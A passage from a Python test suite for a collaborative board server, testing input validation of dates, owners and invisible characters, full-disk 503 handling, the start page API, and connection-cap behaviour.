        (lambda b: b["items"]["a1"].update(due="2024-02-30"), "board.items.a1.action.due"),
        (lambda b: b["items"]["a1"].update(owners=["sales"] * 12), "board.items.a1.action.owners"),
    ):
        status, answer = import_backup(secured, hostile(change))
        assert status == 400 and answer["path"] == path, answer
    leap = hostile(lambda b: b["items"]["a1"].update(due="2028-02-29"))
    leap["board"]["items"]["n1"]["text"] = "NUL\x00 here, \u202eoverride\u202c there\r\nnext"
    status, copy_ = import_backup(secured, leap)
    assert status == 201
    _, _, held = call(
        secured, "GET", f"/api/boards/{copy_['id']}/export?format=json",
        token=copy_["tokens"]["facilitator"],
    )  # fmt: skip
    assert held["board"]["items"]["n1"]["text"] == "NUL here, override there\nnext"
    assert held["board"]["items"]["a1"]["due"] == "2028-02-29"


async def test_ops_refuse_bad_dates_and_repeated_owners_and_strip_invisibles(
    secured: HubProcess,
) -> None:
    board = secured.new_board()
    fay = await Client.join(secured, board, role="facilitator", name="Fay", department=None)

    async def send(op: dict[str, Any]) -> dict[str, Any]:
        cid = await fay.send_op(op)
        return await fay.recv_until(lambda f: f.get("cid") == cid)

    action = {"kind": "action", "title": "A", "owners": ["sales"]}
    frame = await send({"kind": "item.add", "id": "a1", "block": "actions",
                        "item": {**action, "due": "2024-02-30"}})  # fmt: skip
    assert frame["type"] in ("error", "rejected"), frame
    frame = await send({"kind": "item.add", "id": "a2", "block": "actions",
                        "item": {**action, "owners": ["sales", "sales"]}})  # fmt: skip
    assert frame["type"] in ("error", "rejected"), frame
    frame = await send(note("n1", "a\x00b\u202ec"))
    assert frame["type"] == "applied" and frame["op"]["item"]["text"] == "abc", frame


def test_a_full_disk_answers_503_on_every_route_that_writes(tmp_path: Path) -> None:
    """The data dir's files may not grow (RLIMIT_FSIZE, like a full disk): a new board, an
    import, a checkpoint and a restore each answer 503 `storage_unavailable`, never 500, and
    the hub stays up."""
    hub = HubProcess(tmp_path / "data", open_board_creation=False, max_file_bytes=1_500_000)
    hub.env["CROSSBOARD_BOARDS_PER_HOUR_PER_IP"] = "1000"
    hub.start()
    try:
        board = hub.new_board(title="Before the disk filled")
        token = board["tokens"]["facilitator"]
        base = f"/api/boards/{board['id']}/checkpoints"
        status, _, checkpoint = call(hub, "POST", base, {"label": "kept"}, token=token)
        assert status == 201
        bulky = day_backup()
        for i in range(150):
            bulky["board"]["items"][f"b{i}"] = {
                **bulky["board"]["items"]["n1"],
                "id": f"b{i}",
                "text": "y" * 1900,
            }

        key = admin(hub)
        restore = f"{base}/{checkpoint['key']}/restore"
        writes: dict[str, Callable[[], tuple[int, dict[str, str], Any]]] = {
            "import": lambda: call(hub, "POST", "/api/boards", {"backup": bulky}, token=key),
            "new board": lambda: call(hub, "POST", "/api/boards", {"title": "x" * 200}, token=key),
            "checkpoint": lambda: call(hub, "POST", base, {"label": "later"}, token=token),
            "restore": lambda: call(hub, "POST", restore, token=token),
        }
        seen: dict[str, list[int]] = {}
        for name, write in writes.items():
            statuses = seen.setdefault(name, [])
            for _ in range(60):
                status, _, answer = write()
                statuses.append(status)
                if status == 503:
                    assert answer["code"] == "storage_unavailable", answer
                    break
        assert {name: s[-1] for name, s in seen.items()} == dict.fromkeys(writes, 503), seen
        assert all(s in (201, 503) for statuses in seen.values() for s in statuses), seen
        assert hub.proc is not None and hub.proc.poll() is None
        assert call(hub, "GET", "/healthz")[0] == 200
    finally:
        hub.stop()


async def test_the_start_page_and_its_api(secured: HubProcess) -> None:
    """`/` serves the start page with the security headers; a board made in Russian gets
    Russian block titles and departments; a blank board has one notes block."""
    status, headers, page = await asyncio.to_thread(call, secured, "GET", "/")
    assert status == 200 and 'src="/client/src/start/main.js"' in page
    assert "script-src 'self'" in headers["content-security-policy"]
    status, _, info = await asyncio.to_thread(call, secured, "GET", "/api/start")
    assert info == {
        "admin": False, "open_board_creation": False, "max_backup_bytes": 8 * MiB,
        "templates": ["strategy_day", "blank", "retro"], "languages": ["en", "ru"],
    }  # fmt: skip
    ru = await asyncio.to_thread(secured.new_board, title="Сессия", language="ru")
    assert [d["name"] for d in ru["departments"]] == ["Продукт", "Продажи", "Маркетинг"]
    blank = await asyncio.to_thread(secured.new_board, title="Blank", template="blank")

    async def blocks(board: dict[str, Any]) -> list[str]:
        probe = await Client.join(secured, board, role="screen", name="Probe", department=None)
        return sorted(b["title"] for b in probe.welcome["board"]["blocks"].values())

    assert "Дерево целей" in await blocks(ru)
    assert await blocks(blank) == ["Notes"]
    listing = await asyncio.to_thread(call, secured, "GET", "/api/boards", token=admin(secured))
    listed = listing[2]["boards"]
    assert [b["title"] for b in listed] == ["Blank", "Сессия"]
    assert listed[0]["links"]["facilitator"] == blank["links"]["facilitator"]
    status, _, answer = await asyncio.to_thread(
        call, secured, "POST", "/api/boards", {"template": "huge"}, token=admin(secured)
    )
    assert status == 400 and answer["message"].startswith("template:")


def test_spare_connections_a_browser_opens_are_not_evicted(tmp_path: Path) -> None:
    """A room behind one address opening pages at once: browsers open spare connections
    ahead of their requests. Those are not half-sent requests: over the cap they are not
    evicted (before, they got a 408 that the browser then read as the answer to the next
    request on them: pages without their styles), and each still answers its request."""
    hub = HubProcess(tmp_path / "data").start()
    spares: list[socket.socket] = []
    try:
        for _ in range(48):  # over the per-address cap of half-sent requests (32)
            spares.append(socket.create_connection(("127.0.0.1", hub.port), timeout=TIMEOUT))
        time.sleep(1.5)  # past the grace after which requests over the cap are closed
        for s in spares:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        answers = [s.recv(64) for s in spares]
        assert all(a.startswith(b"HTTP/1.1 200") for a in answers), answers[:3]
    finally:
        for s in spares:
            s.close()
        hub.stop()
